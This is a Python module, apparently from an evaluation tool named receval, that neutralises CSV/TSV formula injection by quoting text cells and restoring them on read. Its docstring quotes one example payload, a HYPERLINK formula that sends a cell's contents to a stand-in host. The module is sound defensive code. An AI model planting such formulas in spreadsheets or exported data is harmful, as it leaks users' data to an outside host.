"""CSV/TSV formula injection: text cells a spreadsheet would run as a formula get a quote first.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return followed by one) as a formula: ``=HYPERLINK("http://x?"&A1, "y")``
in an id becomes a live link that sends a cell's content away. The OWASP rule, applied here to
every *text* cell (ids, model names, header cells) of a CSV or TSV receval writes: prefix a
single quote, which spreadsheets show as text. Numbers are never touched (``-1`` as a number
stays ``-1``); ``raw=True`` in the writers, ``--raw-csv`` on the command line, writes text
cells as they are.

**Read back exactly.** receval's own CSV/TSV readers take the quote off again
(:func:`restore_cell`, :func:`restore_array`), so a file ``receval split`` wrote with the user
``-a`` (written ``'-a``) is read as ``-a``, and matches a predictions file that says ``-a``. So
the rule can be undone without doubt, a cell that already starts with quotes followed by a
formula character gets one more (``'=x`` is written ``''=x``), and the reader removes exactly
one quote from a cell that starts with one or more quotes and then ``=``, ``+``, ``-``, ``@``,
tab or CR. A literal id that starts that way (``'-a`` in a file you wrote yourself) is
therefore read as ``-a``: double its first quote (``''-a``) to keep it, or use Parquet or JSON
Lines, which are read as they are.
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc

#: the first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: a cell the writers neutralise: formula characters, after quotes that are already there
_PATTERN = "^'*[=+\\-@\t\r]"
#: a cell the readers restore: one or more quotes, then a formula character
_NEUTRALISED = "^'+[=+\\-@\t\r]"


def neutralise_cell(cell: str) -> str:
    """``cell`` with a ``'`` in front when it starts like a formula, else unchanged.

    Example:
        >>> neutralise_cell('=HYPERLINK("http://x","y")')
        '\\'=HYPERLINK("http://x","y")'
        >>> [neutralise_cell(c) for c in ("-1", "+1", "@SUM(1)", "u-1", "P@10")]
        ["'-1", "'+1", "'@SUM(1)", 'u-1', 'P@10']
    """
    return "'" + cell if cell.lstrip("'").startswith(FORMULA_STARTS) else cell


def restore_cell(cell: str) -> str:
    """``cell`` as it was before :func:`neutralise_cell`: one leading ``'`` removed when
    quotes and then a formula character start it, else unchanged.

    Example:
        >>> [restore_cell(c) for c in ("'-a", "''=x", "'x", "-1", "u'-1")]
        ['-a', "'=x", "'x", '-1', "u'-1"]
        >>> all(restore_cell(neutralise_cell(c)) == c for c in ("-a", "'-a", "''@b", "'", "x"))
        True
    """
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS) \
        else cell


def restore_array(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A string array with every cell restored (:func:`restore_cell`); other types unchanged.

    Example:
        >>> restore_array(pa.array(["'-a", "'@b", "u3", None])).to_pylist()
        ['-a', '@b', 'u3', None]
    """
    kind = arr.type
    if not (pa.types.is_string(kind) or pa.types.is_large_string(kind)) or len(arr) == 0:
        return arr
    risky = pc.match_substring_regex(arr, _NEUTRALISED)
    if not pc.any(risky).as_py():
        return arr
    return pc.if_else(risky, pc.utf8_slice_codeunits(arr, 1), arr)


def neutralise_table(table: pa.Table) -> pa.Table:
    """``table`` with every string cell and column name neutralised (:func:`neutralise_cell`);
    numeric, boolean and other columns unchanged.

    Example:
        >>> import pyarrow as pa
        >>> t = neutralise_table(pa.table({"user": ["=1+1", "u2"], "-P": [-1.0, 2.0]}))
        >>> t.column_names, t.column("user").to_pylist(), t.column(1).to_pylist()
        (['user', "'-P"], ["'=1+1", 'u2'], [-1.0, 2.0])
    """
    columns = []
    for column in table.columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column = column.cast(kind.value_type)
            kind = kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.match_substring_regex(column, _PATTERN)
            quoted = pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind))
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    names = [neutralise_cell(name) for name in table.column_names]
    return pa.Table.from_arrays(columns, names=names)
